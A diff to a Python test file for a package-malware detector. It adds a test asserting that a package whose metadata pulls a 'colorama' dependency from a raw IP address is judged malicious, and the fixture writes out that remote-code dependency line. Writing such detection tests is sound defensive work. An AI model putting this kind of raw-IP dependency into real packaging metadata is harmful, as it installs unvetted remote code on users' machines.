@@ -8,7 +8,7 @@ import zlib
 import pytest
 
 from chainwatch.packages.judge import judge
-from tests.packages.helpers import facts_of, sdist, verdict, wheel_bytes
+from tests.packages.helpers import facts_of, sdist, tar_bytes, verdict, wheel_bytes
 
 BENIGN_SETUP = '''
 import os, subprocess
@@ -306,3 +306,12 @@ def test_browser_secrets_sent_at_import_are_exfiltration(code: str) -> None:
     result, top = verdict(sdist("robloxtools", "0.1", {"robloxtools/__init__.py": code,
                                                         "setup.py": "from setuptools import setup\nsetup()\n"}))
     assert result == "malicious" and "package.exfiltration:critical" in top, top
+
+
+def test_requirement_fetched_from_a_raw_ip_is_remote_code() -> None:
+    pkg_info = ("Metadata-Version: 2.1\nName: colorlog-x\nVersion: 1.0\nSummary: logs\nHome-page: https://example.org\n"
+                "Requires-Dist: requests\nRequires-Dist: colorama @ https://45.61.136.9/colorama-0.4.6.tar.gz\n\n")
+    data = tar_bytes({"PKG-INFO": pkg_info, "setup.py": "from setuptools import setup\nsetup()\n",
+                      "colorlog_x/__init__.py": "VERSION = '1.0'\n"}, "colorlog-x-1.0/")
+    result, top = verdict(data)
+    assert result == "malicious" and "package.remote-dependency:critical" in top, top
